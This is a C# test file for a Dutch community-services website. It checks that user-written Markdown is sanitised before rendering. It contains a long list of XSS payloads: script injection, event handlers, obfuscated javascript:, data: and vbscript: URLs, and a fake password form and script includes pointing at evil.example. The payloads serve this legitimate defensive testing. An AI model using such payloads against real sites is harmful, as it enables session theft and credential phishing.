using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Markdig;
using SocialeKaart.Indexer.Tests.Support;
using SocialeKaart.Kaart.Content;
using SocialeKaart.Kaart.Indexing;

namespace SocialeKaart.Indexer.Tests.Content;

/// <summary>
/// Untrusted Markdown (organisations write the bodies): a hostile corpus in the style of the XSS cheat sheets goes
/// through <see cref="MarkdownRenderer"/>, and its output is read back as a browser reads it (AngleSharp's HTML5 parser).
/// Nothing may come out that can script or restyle the page: only the allowed elements, no attributes but href, rel and
/// start, and every href a safe address. The real content renders exactly as Markdig alone renders it.
/// </summary>
public sealed class MarkdownSanitiserTests
{
    private static readonly HashSet<string> Elements = ["html", "head", "body", .. MarkdownRenderer.AllowedTags];

    public static TheoryData<string> Hostile() =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<form action=\"https://evil.example\"><input name=wachtwoord><button>Stuur</button></form>",
        "<style>body{display:none}</style>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">nep</div>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<!-- <script>alert(1)</script> -->",
        "<details open ontoggle=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x]( javascript:alert(1) )",
        "[x](<javascript:alert(1)>)",
        "[x](jav&#x09;ascript:alert(1))",
        "[x](jav&#9;ascript:alert(1))",
        "[x](jav&#x0A;ascript:alert(1))",
        "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java%0ascript:alert(1))",
        "[x](javascript\u200b:alert(1))",
        "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](DATA:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/pad)",
        "[x](/\\evil.example/pad)",
        "[x](\\\\evil.example\\share)",
        "[x](https://ok.example \"titel\\\" onmouseover=\\\"alert(1)\")",
        "[x](https://ok.example){onclick=alert(1)}",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<data:text/html,x>",
        "<vbscript:x>",
        "www.evil.example",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x][r]\n\n[r]: <javascript:alert(1)> \"titel\"",
        "[r]\n\n[r]: data:text/html,x",
        "![x](https://evil.example/volg.png)",
        "![x](javascript:alert(1))",
        "![<script>](x.png \"a\\\"onerror=alert(1)\")",
        "[![x](https://evil.example/i.png)](https://ok.example)",
        "***[x](javascript:alert(1))***",
        "**[a](https://ok.example) _[b](javascript:alert(1))_ ~~[c](vbscript:x)~~**",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
        "# Kop {#hoofdmenu .verborgen onclick=\"alert(1)\"}",
        "Tekst {: style=\"color:red\" }",
        "a. eerste\nb. tweede",
        "3. drie\n4. vier",
        "<https://ok.example/\"onmouseover=\"alert(1)>",
        "[x](https://ok.example/\"onmouseover=\"alert(1))",
        "[x](mailto:a@example.nl?subject=<script>)",
        "[x](tel:+31318000000)",
        "\u202Egnp.exe",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "\"><script>alert(1)</script>",
        "'';!--\"<XSS>=&{()}",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "[ok](https://ok.example/a_(b)_c)",
        string.Concat(Enumerable.Repeat("[a](javascript:alert(1)) ", 5_000)),
        new string('>', 5_000) + " diep",
        new string('[', 50_000) + "x" + new string(']', 50_000),
        string.Concat(Enumerable.Repeat("*", 30_000)) + "x",
        string.Concat(Enumerable.Range(0, 500).Select(i => new string(' ', i * 2) + "- x\n")),
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Render_HostileMarkdown_CanNeitherScriptNorRestyleThePage(string markdown)
    {
        var (html, _) = MarkdownRenderer.Render(markdown);
        AssertSafe(html);
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))", "<p>x</p>")]
    [InlineData("![Logo van de stichting](https://evil.example/volg.png)", "<p>Logo van de stichting</p>")]
    [InlineData("<javascript:alert(1)>", "<p>javascript:alert(1)</p>")]
    [InlineData("[bel ons](tel:+31318000000)", "<p><a href=\"tel:+31318000000\">bel ons</a></p>")]
    [InlineData("[mail](mailto:info@example.nl)", "<p><a href=\"mailto:info@example.nl\">mail</a></p>")]
    [InlineData("[site](https://ok.example)", "<p><a href=\"https://ok.example\" rel=\"nofollow ugc noopener\">site</a></p>")]
    [InlineData("[hier](/aanbod/taalcafe-de-brug)", "<p><a href=\"/aanbod/taalcafe-de-brug\">hier</a></p>")]
    [InlineData("# Kop", "<h2>Kop</h2>")]
    [InlineData("###### Kop", "<h4>Kop</h4>")]
    [InlineData("<b>vet</b>", "<p>&lt;b&gt;vet&lt;/b&gt;</p>")]
    [InlineData("a. een\nb. twee", "<ol>\n<li>een</li>\n<li>twee</li>\n</ol>")]
    [InlineData("3. drie", "<ol start=\"3\">\n<li>drie</li>\n</ol>")]
    public void Render_WhatStaysAndWhatGoes(string markdown, string expected)
    {
        Assert.Equal(expected, MarkdownRenderer.Render(markdown).Html.Trim());
    }

    [Fact]
    public void Render_TooDeeplyNested_IsShownAsText_AndTheParserSaysWhy()
    {
        var markdown = new string('>', 5_000) + " <script>alert(1)</script>";
        var (html, tekst) = MarkdownRenderer.Render(markdown);

        Assert.StartsWith("<p>&gt;&gt;&gt;", html, StringComparison.Ordinal);
        Assert.Contains("&lt;script&gt;", html, StringComparison.Ordinal);
        Assert.EndsWith("<script>alert(1)</script>", tekst, StringComparison.Ordinal);
        Assert.Contains("te diep genest", MarkdownRenderer.Probleem(markdown), StringComparison.Ordinal);
        Assert.Null(MarkdownRenderer.Probleem("Gewoon **tekst**."));
    }

    [Fact]
    public void Render_RealContent_IsExactlyWhatMarkdigAloneRenders()
    {
        // The narrowing and the sanitiser take nothing from what the redactie wrote: same elements, same text.
        var markdig = new MarkdownPipelineBuilder().DisableHtml().UseAutoLinks().UseEmphasisExtras().UseListExtras().Build();
        var parser = new AanbodParser(TestContent.Taxonomie);
        var files = Directory.GetFiles(Path.Combine(TestContent.ContentRoot, ContentIndexer.AanbodFolder), "*.md");
        Assert.True(files.Length > 150);
        foreach (var file in files)
        {
            var body = parser.Parse("aanbod/" + Path.GetFileName(file), File.ReadAllText(file)).Aanbod!.BodyMarkdown;
            Assert.Equal(Normalised(Markdown.ToHtml(body, markdig)), Normalised(MarkdownRenderer.Render(body).Html));
            AssertSafe(MarkdownRenderer.Render(body).Html);
        }
    }

    [Fact]
    public async Task Render_ManyThreadsAtOnce_GiveTheSameSafeResult()
    {
        var markdown = "Kijk op [onze site](https://ok.example) of [hier](javascript:alert(1)). <script>x</script>\n\n- een\n- twee";
        var expected = MarkdownRenderer.Render(markdown).Html;
        var results = await Task.WhenAll(Enumerable.Range(0, 16).Select(_ => Task.Run(() =>
            Enumerable.Range(0, 200).Select(_ => MarkdownRenderer.Render(markdown).Html).Distinct().ToList())));
        Assert.All(results, r => Assert.Equal([expected], r));
    }

    private static string Normalised(string html) => new HtmlParser().ParseDocument(html).Body!.InnerHtml;

    private static void AssertSafe(string html)
    {
        var document = new HtmlParser().ParseDocument(html);
        foreach (var element in document.All)
        {
            Assert.True(Elements.Contains(element.LocalName), $"element <{element.LocalName}> in: {html}");
            foreach (var attribute in element.Attributes)
            {
                var allowed = (element.LocalName, attribute.Name) is ("a", "href") or ("a", "rel") or ("ol", "start");
                Assert.True(allowed, $"attribute {attribute.Name} on <{element.LocalName}> in: {html}");
            }

            if (element.LocalName == "a" && element.GetAttribute("href") is { } href)
            {
                Assert.True(SafeHref(href), $"href '{href}' in: {html}");
                if (href.StartsWith("http", StringComparison.OrdinalIgnoreCase))
                {
                    Assert.Equal("nofollow ugc noopener", element.GetAttribute("rel"));
                }
            }
        }

        Assert.Empty(document.Head!.Children);
        Assert.DoesNotContain(document.All, e => e.NodeType == NodeType.Comment);
    }

    private static bool SafeHref(string href) =>
        !href.Any(c => char.IsControl(c) || char.IsWhiteSpace(c) || c == '\\')
        && (href.StartsWith('/') ? !href.StartsWith("//", StringComparison.Ordinal)
            : Uri.TryCreate(href, UriKind.Absolute, out var uri) && uri.Scheme is "http" or "https" or "mailto" or "tel");
}
